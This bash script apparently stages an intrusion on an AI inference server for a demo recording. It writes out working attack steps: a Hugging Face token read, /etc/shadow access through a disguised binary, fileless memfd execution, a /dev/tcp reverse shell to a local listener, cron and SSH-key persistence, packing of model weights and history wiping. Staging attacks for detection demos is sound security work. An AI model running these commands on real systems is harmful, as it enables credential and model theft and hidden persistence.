#!/bin/bash
# The story of the demo recording, played in a root directory of its own (tools/record-demo.ts): an inference server on an ordinary host
# is made to run a stranger's commands. Needs what a minimal Debian has: bash, coreutils, perl-base.
set -u
cd /srv

# What always happens here.
ls -l /srv/models > /dev/null
sha256sum /srv/models/llama.safetensors > /dev/null
date > /dev/null

# The server is tricked into starting a shell, which looks around.
/opt/vllm/vllm 'id; uname -a; cat /root/.cache/huggingface/token' > /dev/null

# A tool is dropped, started, and reads the password file.
cp /bin/cat /tmp/.helper
/tmp/.helper /etc/shadow > /dev/null

# A program that never touches the disk.
perl -e '
	my $fd = syscall(319, my $name = "kworker", 0);
	open(my $from, "<", "/bin/true"); open(my $to, ">&=", $fd);
	print $to join("", <$from>); $to->flush;
	exec { "/proc/self/fd/$fd" } "kworker";
' 2> /dev/null

# A shell for somebody at the other end of a connection, who asks for it to come back every day.
perl -MIO::Socket::INET -e '
	my $server = IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => 4444, Listen => 1, ReuseAddr => 1) or exit 1;
	my $client = $server->accept;
	print $client "echo \"0 3 * * * root /tmp/.helper\" > /etc/cron.d/update\n";
	print $client "echo ssh-ed25519 AAAA visitor >> /root/.ssh/authorized_keys\n";
	print $client "exit\n";
	1 while <$client>;
' &
listener=$!
sleep 0.3
bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'
wait $listener

# The weights leave their folder, and the traces go.
tar -cf /tmp/.weights -C /srv/models llama.safetensors
rm -f /root/.bash_history /tmp/.weights
